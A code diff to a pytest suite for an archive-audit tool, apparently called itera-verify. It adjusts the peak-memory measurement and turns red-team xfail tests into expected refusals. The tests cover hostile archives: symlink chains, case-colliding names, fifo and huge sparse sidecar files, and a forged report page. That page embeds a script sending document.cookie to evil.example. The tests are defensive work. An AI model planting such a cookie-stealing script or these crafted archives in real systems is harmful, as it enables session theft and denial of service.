@@ -46,10 +46,16 @@ def audited(archive: Path, *args, timeout: int = 300) -> tuple[int, dict | None,
     return result.returncode, report, result.stderr
 
 
+# The command's own peak is its VmHWM: ru_maxrss (RUSAGE_SELF) survives exec, so a child of a pytest process that
+# holds 350 MB would start at 350 MB whatever it does. Its children's is RUSAGE_CHILDREN.
 PEAK = ("import resource, sys, runpy\n"
+        "def own_peak():\n"
+        "    for line in open('/proc/self/status'):\n"
+        "        if line.startswith('VmHWM:'):\n            return int(line.split()[1])\n"
+        "    return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss\n"
         "try:\n    runpy.run_module('itera_verify', run_name='__main__')\n"
-        "finally:\n    print(f'PEAK_KIB {max(resource.getrusage(w).ru_maxrss for w in (resource.RUSAGE_SELF, "
-        "resource.RUSAGE_CHILDREN))}', file=sys.stderr)\n")
+        "finally:\n    print(f'PEAK_KIB {max(own_peak(), resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss)}', "
+        "file=sys.stderr)\n")
 
 
 def audited_with_peak(archive: Path, *args, timeout: int = 300) -> tuple[int, dict | None, str, int]:
@@ -77,8 +83,6 @@ def test_the_clean_small_campaign_audits_pass(clean, tmp_path):
 
 
 # ---- a verdict that lies ----------------------------------------------------------------------------------
-@pytest.mark.xfail(strict=True, reason="red team 4: SEAL/report.html is never compared with anything; a page with "
-                                       "a script and a forged verdict audits PASS")
 def test_a_forged_report_page_with_a_script_in_SEAL_is_refused(clean, tmp_path):
     page = (b"<!doctype html><title>itera-verify</title><h1>PASS: 0 errors, 4 artifacts reloaded on cuda</h1>"
             b"<script>fetch('https://evil.example/?'+document.cookie)</script>")
@@ -93,9 +97,6 @@ def test_a_forged_report_page_with_a_script_in_SEAL_is_refused(clean, tmp_path):
     assert any("report.html" in f["path"] for f in report["findings"] if f["severity"] == "error")
 
 
-@pytest.mark.xfail(strict=True, reason="red team 4: two members whose names differ only in case audit PASS; tar -x "
-                                       "on a case-insensitive disk (macOS, Windows) keeps the second under the "
-                                       "first's name")
 def test_two_members_whose_names_differ_only_in_case_are_refused(clean, tmp_path):
     nan_weights = save({"weight": np.full((4, 4), np.nan, dtype="float32")})
 
@@ -125,8 +126,6 @@ def link_chains(path: Path, chains: int, length: int) -> Path:
 
 
 @pytest.mark.slow
-@pytest.mark.xfail(strict=True, reason="red team 4: a chain of 1,500 links crashes the audit with a RecursionError "
-                                       "traceback in os.path.realpath (archive/extract.py check_symlinks); no report")
 def test_a_chain_of_1500_links_is_refused_in_one_report_not_a_traceback(tmp_path):
     archive = link_chains(tmp_path / "chain.tar.zst", 1, 1500)
     code, report, stderr = audited(archive, timeout=120)
@@ -135,8 +134,6 @@ def test_a_chain_of_1500_links_is_refused_in_one_report_not_a_traceback(tmp_path
 
 
 @pytest.mark.slow
-@pytest.mark.xfail(strict=True, reason="red team 4: link chains cost time quadratic in their length (realpath of "
-                                       "each link walks the rest): 16,000 links in a 38 KB archive take 134 s")
 def test_a_small_archive_of_long_link_chains_is_refused_quickly(tmp_path):
     archive = link_chains(tmp_path / "chains.tar.zst", 6, 800)  # 22 KB; a 2 MB archive of them runs for hours
     started = time.monotonic()
@@ -147,9 +144,6 @@ def test_a_small_archive_of_long_link_chains_is_refused_quickly(tmp_path):
 
 
 @pytest.mark.slow
-@pytest.mark.xfail(strict=True, reason="red team 4: member count is bounded only by --max-size: 300,000 empty files "
-                                       "in a 450 KB archive cost ~30 s, ~510 MiB and 300,005 findings; the "
-                                       "default 1 GiB admits 2 million")
 def test_an_archive_of_300000_empty_files_is_refused_before_it_costs_minutes_and_gigabytes(tmp_path):
     listed = [Member("", "directory"), Member("d", "directory")]
     listed += [Member(f"d/{i:07d}", "file") for i in range(300_000)]
@@ -165,9 +159,6 @@ def test_an_archive_of_300000_empty_files_is_refused_before_it_costs_minutes_and
 # ---- what lies beside the archive ------------------------------------------------------------------------------
 @pytest.mark.slow
 @pytest.mark.parametrize("suffix", [".sha256", ".sig"])
-@pytest.mark.xfail(strict=True, reason="red team 4: a fifo named <archive>.sha256 or <archive>.sig blocks the audit "
-                                       "forever (flows/audit.py _detached_checksum, flows/signatures.py "
-                                       "_archive_signature: a plain open, no O_NONBLOCK)")
 def test_a_fifo_beside_the_archive_does_not_hang_the_audit(clean, tmp_path, suffix):
     archive = copy_of(clean, tmp_path)
     sidecar = archive.with_name(archive.name + suffix)
@@ -187,8 +178,6 @@ def test_a_fifo_beside_the_archive_does_not_hang_the_audit(clean, tmp_path, suff
 
 
 @pytest.mark.slow
-@pytest.mark.xfail(strict=True, reason="red team 4: <archive>.sha256 is read whole: a sparse 300 MB sidecar costs "
-                                       "~650 MB of memory; one of 40 GB (no disk) kills the audit")
 def test_a_huge_sparse_sha256_beside_the_archive_is_read_within_a_bound(clean, tmp_path):
     archive = copy_of(clean, tmp_path)
     with open(archive.with_name(archive.name + ".sha256"), "r+b") as sidecar:
